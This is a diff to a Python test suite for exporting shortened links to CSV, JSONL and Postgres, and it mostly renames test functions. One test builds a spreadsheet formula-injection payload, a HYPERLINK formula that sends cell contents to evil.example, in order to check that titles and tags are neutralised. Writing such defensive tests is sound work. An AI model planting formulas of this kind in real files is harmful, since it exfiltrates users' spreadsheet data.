@@ -32,7 +32,7 @@ ROWS = [
 ]
 
 
-def test_a_link_that_stands_twice_is_one_row():
+def test_a_link_that_occurs_twice_is_one_row():
     done = prepare(
         builders.request(
             type="promotional",
@@ -54,7 +54,7 @@ def test_a_link_that_stands_twice_is_one_row():
     assert len(list(shlink_csv(done.links))) == len(list(postgres_copy(done.links))) - 1 == 3
 
 
-def test_jsonl_is_a_line_a_link_and_holds_everything():
+def test_jsonl_has_one_line_per_link_with_all_its_fields():
     lines = list(jsonl(ROWS))
     assert all(line.endswith("\n") and line.count("\n") == 1 for line in lines)
     for line, row in zip(lines, ROWS, strict=True):
@@ -124,7 +124,7 @@ def test_copy_leaves_out_nul():
 
 
 @pytest.mark.parametrize("column", ["domain", "code"])
-def test_postgres_tells_codes_by_case(column):
+def test_postgres_distinguishes_codes_by_case(column):
     assert f'{column} text COLLATE "C" NOT NULL' in POSTGRES_DDL
 
 
@@ -187,7 +187,7 @@ class TestSpreadsheets:
     @pytest.mark.parametrize(
         "first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
     )
-    def test_a_title_or_tag_is_no_formula(self, first):
+    def test_a_title_or_tag_is_not_a_formula(self, first):
         title = f'{first}HYPERLINK("https://evil.example/?"&A1,"x")'
         row = ROWS[0]._replace(title=title, tags=(title, "b"))
         _, [_, _, _, shown, tags, _] = csv.reader(io.StringIO("".join(shlink_csv([row])), newline=""))
